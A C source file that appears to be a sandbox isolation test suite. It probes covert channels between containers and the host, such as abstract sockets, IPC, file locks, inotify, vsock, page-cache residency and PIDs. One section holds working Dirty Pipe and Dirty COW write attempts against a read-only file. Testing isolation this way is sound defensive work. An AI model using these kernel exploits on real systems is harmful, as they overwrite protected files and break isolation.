/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What two boxes, or a box and the host, can say to each other behind everybody's back. One side holds
 * something and says "ready"; the other looks for it. `attack ROW-hold [NAME]` holds, on the host too.
 */
#include "probe.h"

#include <fcntl.h>
#include <mqueue.h>
#include <poll.h>
#include <pthread.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/sendfile.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>

/* Some versions of it do not include what they use. */
#include <linux/vm_sockets.h>

static const char *arg = "";

static void await_word(void)
{
	char line[16];

	puts("ready");
	(void)!read(0, line, sizeof(line));
}

/* --- CC-01: abstract sockets ------------------------------------------------------------------ */

static const int kinds[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET };

static socklen_t abstract(struct sockaddr_un *address, const char *name, int kind)
{
	int n = snprintf(address->sun_path + 1, sizeof(address->sun_path) - 1,
			 "glovebox-escape-%s-%d", name, kind);

	address->sun_family = AF_UNIX;
	address->sun_path[0] = '\0';
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + (size_t)n);
}

static int cc01_hold(void)
{
	struct pollfd polls[N_ELEM(kinds)];

	for (size_t i = 0; i < N_ELEM(kinds); i++) {
		struct sockaddr_un address;
		socklen_t len = abstract(&address, arg, kinds[i]);

		polls[i] = (struct pollfd){ .fd = socket(AF_UNIX, kinds[i], 0), .events = POLLIN };
		if (bind(polls[i].fd, (void *)&address, len) < 0 ||
		    (kinds[i] != SOCK_DGRAM && listen(polls[i].fd, 4) < 0))
			return BREACH("cannot listen: %m");
	}
	await_word();
	return poll(polls, N_ELEM(kinds), 0) > 0 ? BREACH("somebody came") : SAFE("nobody came");
}

static int cc01(void)
{
	int bad = 0;

	for (size_t i = 0; i < N_ELEM(kinds); i++) {
		struct sockaddr_un address;
		socklen_t len = abstract(&address, arg, kinds[i]);
		int fd = socket(AF_UNIX, kinds[i], 0);

		if (connect(fd, (void *)&address, len) == 0 ||
		    (errno != ECONNREFUSED && errno != EPERM))
			bad |= BREACH("connect to %s: %m", arg);
		if (kinds[i] == SOCK_DGRAM && sendto(fd, "x", 1, 0, (void *)&address, len) >= 0)
			bad |= BREACH("send to %s", arg);
	}
	return bad ? 1 : SAFE("nobody there");
}

/* --- CC-02: System V and POSIX IPC ------------------------------------------------------------ */

static key_t key_of(const char *name)
{
	return 0x67620000 + name[0];
}

static int cc02_hold(void)
{
	int shm = shmget(key_of(arg), 4096, IPC_CREAT | IPC_EXCL | 0666);
	int sem = semget(key_of(arg), 1, IPC_CREAT | IPC_EXCL | 0666);
	int msg = msgget(key_of(arg), IPC_CREAT | IPC_EXCL | 0666);
	char *memory = shm < 0 ? (void *)-1 : shmat(shm, NULL, 0);
	char path[64];
	int r;

	snprintf(path, sizeof(path), "/dev/shm/glovebox-escape-%s", arg);
	(void)close(open(path, O_CREAT | O_WRONLY, 0666));
	if (memory == (void *)-1 || sem < 0 || msg < 0) {
		r = BREACH("cannot make them: %m");
	} else {
		await_word();
		r = memory[0] ? BREACH("somebody wrote") : SAFE("nobody wrote");
	}
	shmctl(shm, IPC_RMID, NULL);
	semctl(sem, 0, IPC_RMID);
	msgctl(msg, IPC_RMID, NULL);
	unlink(path);
	return r;
}

static int cc02(void)
{
	struct shm_info info;
	char path[64];
	int shm = shmget(key_of(arg), 4096, 0), bad = 0;

	if (shm >= 0) {
		char *memory = shmat(shm, NULL, 0);

		bad |= BREACH("the segment of %s", arg);
		if (memory != (void *)-1)
			memory[0] = 'x';
	}
	if (semget(key_of(arg), 1, 0) >= 0 || msgget(key_of(arg), 0) >= 0)
		bad |= BREACH("semaphore or queue of %s", arg);
	if (shmctl(0, SHM_INFO, (void *)&info) < 0 || info.used_ids != 0)
		bad |= BREACH("%d segments", info.used_ids);
	snprintf(path, sizeof(path), "/dev/shm/glovebox-escape-%s", arg);
	if (access(path, F_OK) == 0)
		bad |= BREACH("%s", path);
	if (mq_open("/glovebox-escape", O_CREAT | O_RDWR, 0666, NULL) != (mqd_t)-1 ||
	    errno != ENOSYS)
		bad |= BREACH("POSIX queue: %m");
	return bad ? 1 : SAFE("nothing there");
}

/* --- CC-03: locks on files that all boxes read ------------------------------------------------ */

static const char *const shared[] = {
	"/usr/bin/env",  "/etc/services",
	"/etc/passwd",   "/usr/bin",
	"/etc",          "/",
	"/dev/null",     "/dev/zero",
	"/dev/full",     "/dev/random",
	"/dev/urandom",  "/proc/version",
	"/proc/meminfo", "/proc/sys/kernel/random/boot_id",
	"/proc/kcore",
};

#define N_FILES 6 /* the first ones; behind them come devices and /proc */

/* Without root the host's device nodes are all there are: `attack ROW files` leaves them out. */
static size_t n_shared(void)
{
	return strcmp(arg, "files") == 0 ? N_FILES : N_ELEM(shared);
}

static int lockable(const char *path)
{
	return open(path, O_RDONLY | O_CLOEXEC);
}

static int cc03_hold(void)
{
	for (size_t i = 0; i < n_shared(); i++) {
		struct flock lock = { .l_type = F_RDLCK, .l_whence = SEEK_SET };
		int fd = lockable(shared[i]), again;

		if (fd < 0)
			continue;
		again = lockable(shared[i]);
		if (flock(fd, LOCK_EX | LOCK_NB) < 0)
			return BREACH("%s is locked by somebody: %m", shared[i]);
		if (flock(again, LOCK_EX | LOCK_NB) == 0)
			return BREACH("%s: locks do nothing, so this shows nothing", shared[i]);
		(void)fcntl(fd, F_SETLK, &lock);
		(void)fcntl(fd, F_SETLEASE, F_RDLCK);
	}
	await_word();
	return SAFE("held");
}

static int cc03(void)
{
	int bad = 0, tried = 0;

	for (size_t i = 0; i < n_shared(); i++) {
		struct flock lock = { .l_type = F_WRLCK, .l_whence = SEEK_SET };
		int fd = lockable(shared[i]);

		if (fd < 0)
			continue;
		tried++;
		if (flock(fd, LOCK_EX | LOCK_NB) < 0)
			bad |= BREACH("flock on %s is seen: %m", shared[i]);
		if (fcntl(fd, F_GETLK, &lock) == 0 && lock.l_type != F_UNLCK)
			bad |= BREACH("the lock of %d on %s is seen", lock.l_pid, shared[i]);
		/* Whoever may write may also say "now", and everybody else could read when that was. */
		(void)utimensat(AT_FDCWD, shared[i], NULL, 0);
	}
	return bad || tried < 4 ? 1 : SAFE("%d files, no lock", tried);
}

/* --- CC-04: watching files that all boxes read ------------------------------------------------ */

static int touch_shared(void)
{
	char bytes[64];

	for (size_t i = 0; i < n_shared(); i++) {
		int fd = open(shared[i], O_RDONLY);

		(void)!read(fd, bytes, sizeof(bytes));
		close(fd);
	}
	return SAFE("touched");
}

static int cc04_hold(void)
{
	char events[4096];
	int fd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);

	for (size_t i = 0; i < n_shared(); i++)
		if (inotify_add_watch(fd, shared[i], IN_ALL_EVENTS) < 0 && errno != ENOENT)
			return BREACH("cannot watch %s: %m", shared[i]);
	await_word();
	if (read(fd, events, sizeof(events)) > 0)
		return BREACH("events of somebody else: %s",
			      ((struct inotify_event *)events)->name);
	touch_shared();
	if (read(fd, events, sizeof(events)) <= 0)
		return BREACH("no events of our own: this shows nothing");
	return SAFE("only our own events");
}

/* --- CC-05 ------------------------------------------------------------------------------------ */

static int cc05(void)
{
	static const struct call calls[] = {
		CALL(socket, EAFNOSUPPORT, AF_VSOCK, SOCK_STREAM, 0),
		CALL(socket, EAFNOSUPPORT, AF_VSOCK, SOCK_DGRAM, 0),
		CALL(socket, EAFNOSUPPORT, AF_VSOCK, SOCK_SEQPACKET, 0),
		CALL(socketpair, EAFNOSUPPORT, AF_VSOCK, SOCK_STREAM, 0, NOWHERE),
	};

	if (open("/dev/vsock", O_RDONLY) >= 0)
		return BREACH("/dev/vsock");
	return all_refused(calls, N_ELEM(calls));
}

/* --- CC-06: which pages of a shared file are in memory? --------------------------------------- */

static long resident(int fd, size_t pages)
{
	static unsigned char map[1 << 16];
	long n = 0, page = sysconf(_SC_PAGESIZE);
	void *memory = mmap(NULL, pages * (size_t)page, PROT_READ, MAP_SHARED, fd, 0);

	if (memory == MAP_FAILED || mincore(memory, pages * (size_t)page, map) < 0)
		return -1;
	for (size_t i = 0; i < pages; i++)
		n += map[i] & 1;
	return n;
}

/* arg is a file that the host has just thrown out of memory. The only answer may be "all of it". */
static int cc06(void)
{
	static const struct call calls[] = { CALL(cachestat, ENOSYS, -1UL, NOWHERE, NOWHERE, 0) };
	int bad = all_refused(calls, N_ELEM(calls)), fd = open(arg, O_RDONLY);
	struct stat st;
	size_t pages;

	if (fd < 0 || fstat(fd, &st) < 0)
		return BREACH("%s: %m", arg);
	pages = (size_t)st.st_size / (size_t)sysconf(_SC_PAGESIZE);
	if (pages > 1 << 16)
		pages = 1 << 16;
	if (pages == 0 || resident(fd, pages) != (long)pages)
		bad |= BREACH("mincore: %ld of %zu pages", resident(fd, pages), pages);
	return bad;
}

/* --- CC-07: clocks and numbers ---------------------------------------------------------------- */

static int cc07(void)
{
	static const clockid_t clocks[] = { CLOCK_MONOTONIC, CLOCK_BOOTTIME, CLOCK_MONOTONIC_RAW };
	int host_pid = atoi(arg), bad = 0;
	struct timespec now;
	double uptime = 0;
	char path[64];
	FILE *f = fopen("/proc/uptime", "re");

	for (size_t i = 0; i < N_ELEM(clocks); i++)
		if (clock_gettime(clocks[i], &now) < 0 || now.tv_sec > 60)
			bad |= BREACH("clock %d: %lld s", clocks[i], (long long)now.tv_sec);
	if (!f || fscanf(f, "%lf", &uptime) != 1 || uptime > 60)
		bad |= BREACH("uptime %f", uptime);
	if (getpid() > 64)
		bad |= BREACH("our number is %d", getpid());
	snprintf(path, sizeof(path), "/proc/%d", host_pid);
	if (access(path, F_OK) == 0 || kill(host_pid, 0) == 0 || errno != ESRCH)
		bad |= BREACH("process %d of the host: %m", host_pid);
	for (int pid = 65; pid < 32768; pid++)
		if (kill(pid, 0) == 0 || errno != ESRCH)
			bad |= BREACH("process %d: %m", pid);
	return bad ? 1 : SAFE("nothing of the host");
}

/* --- CC-08: prints the core-scheduling cookie of a process, from outside ----------------------- */

static int cookie(void)
{
	unsigned long long value = 0;

	if (prctl(62 /* PR_SCHED_CORE */, 0 /* GET */, atoi(arg), 1 /* the process */, &value) < 0)
		return 77;
	printf("%llx\n", value);
	return 0;
}

/* --- CC-10: writing to a file that one may only read ------------------------------------------- */

#define VICTIM "/usr/victim"
#define MARK "CORRUPT"

/* Dirty Pipe: pages of the file in a pipe whose buffers once were mergeable. */
static void by_pipe(int fd, int with_sendfile)
{
	char bytes[4096] = { 0 };
	off_t at = 1;
	int p[2];

	if (pipe(p) < 0)
		return;
	fcntl(p[1], F_SETPIPE_SZ, 65536);
	for (int i = 0; i < 16; i++)
		(void)!write(p[1], bytes, sizeof(bytes));
	for (int i = 0; i < 16; i++)
		(void)!read(p[0], bytes, sizeof(bytes));
	if (with_sendfile)
		(void)!sendfile(p[1], fd, &at, 1);
	else
		(void)syscall(SYS_splice, fd, &at, p[1], NULL, 1, 0);
	fcntl(p[1], F_SETFL, O_NONBLOCK);
	(void)!write(p[1], MARK, strlen(MARK));
	close(p[0]);
	close(p[1]);
}

/* Dirty COW: writing through /proc/self/mem while the private copy is thrown away. */
static char *cow_map;
static volatile int cow_over;

static void *discard(void *unused)
{
	while (!cow_over)
		madvise(cow_map, 4096, MADV_DONTNEED);
	return unused;
}

static void by_cow(int fd)
{
	int mem = open("/proc/self/mem", O_RDWR);
	pthread_t thread;

	cow_map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (cow_map == MAP_FAILED || pthread_create(&thread, NULL, discard, NULL) != 0)
		return;
	for (int i = 0; i < 20000; i++)
		(void)!pwrite(mem, MARK, strlen(MARK), (off_t)(uintptr_t)cow_map);
	cow_over = 1;
	pthread_join(thread, NULL);
}

static int cc10(void)
{
	static const struct call entries[] = {
		CALL(socket, EAFNOSUPPORT, 38 /* AF_ALG */, SOCK_SEQPACKET, 0),
		CALL(socket, EAFNOSUPPORT, 33 /* AF_RXRPC */, SOCK_DGRAM, AF_INET),
		CALL(socket, EPROTONOSUPPORT, AF_NETLINK, SOCK_RAW, 6 /* XFRM */),
		CALL(splice, EINVAL, 0, 0, 1, 0, 1, 0),
		CALL(vmsplice, EINVAL, 1, NOWHERE, 1, 0),
		CALL(io_uring_setup, ENOSYS, 8, NOWHERE),
	};
	int bad = all_refused(entries, N_ELEM(entries)), fd = open(VICTIM, O_RDONLY);
	char bytes[64] = "";

	if (fd < 0)
		return BREACH("no " VICTIM ": %m");
	if (open(VICTIM, O_RDWR) >= 0 || open(VICTIM, O_WRONLY | O_TRUNC) >= 0 ||
	    chmod(VICTIM, 0666) == 0)
		bad |= BREACH("can be written");
	if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED)
		bad |= BREACH("can be mapped for writing");
	by_pipe(fd, 0);
	by_pipe(fd, 1);
	by_cow(fd);
	if (pread(fd, bytes, sizeof(bytes) - 1, 0) <= 0 || strstr(bytes, MARK))
		bad |= BREACH("it now says '%s'", bytes);
	return bad;
}

/* The neighbour, who comes later. */
static int victim(void)
{
	char bytes[64];
	int fd = open(VICTIM, O_RDONLY);
	ssize_t n = pread(fd, bytes, sizeof(bytes), 0);

	return n > 0 && write(1, bytes, (size_t)n) == n ? 0 : BREACH("no " VICTIM ": %m");
}

int main(int argc, char **argv)
{
	static const struct row rows[] = {
		{ "CC-01-hold", cc01_hold }, { "CC-01", cc01 },
		{ "CC-02-hold", cc02_hold }, { "CC-02", cc02 },
		{ "CC-03-hold", cc03_hold }, { "CC-03", cc03 },
		{ "CC-04-hold", cc04_hold }, { "CC-04", touch_shared },
		{ "CC-05", cc05 },           { "CC-06", cc06 },
		{ "CC-07", cc07 },           { "cookie", cookie },
		{ "CC-10", cc10 },           { "victim", victim },
	};

	if (argc == 3)
		arg = argv[2];
	return run_rows(rows, N_ELEM(rows), argc > 2 ? 2 : argc, argv);
}
